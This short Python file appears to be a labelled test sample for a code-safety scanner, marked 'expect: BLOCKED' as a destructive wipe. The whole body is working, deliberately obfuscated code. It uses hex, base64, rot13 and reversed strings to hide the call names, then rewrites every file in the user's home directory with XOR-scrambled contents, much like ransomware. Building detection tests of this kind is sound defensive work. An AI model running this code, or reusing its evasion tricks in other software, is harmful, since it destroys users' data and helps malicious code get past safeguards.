# expect: BLOCKED category: destructive_wipe variant-of: risky/destructive_wipe/ransom_overwrite.py technique: encode+getattr
Path = getattr(__import__(bytes.fromhex('706174686c6962').decode(), fromlist=['_']), ''.join(map(chr, [80, 97, 116, 104])))

def scramble(data: bytes) -> bytes:
    return bytes((b ^ 90 for b in data))
for target in getattr(Path, 'emoh'[::-1])().rglob('*'):
    if getattr(target, __import__('codecs').decode('vf_svyr', 'rot13'))():
        getattr(target, __import__('base64').b64decode('d3JpdGVfYnl0ZXM=').decode())(scramble(getattr(target, ''.join(['r', 'e', 'a', 'd', '_', 'b', 'y', 't', 'e', 's']))()))
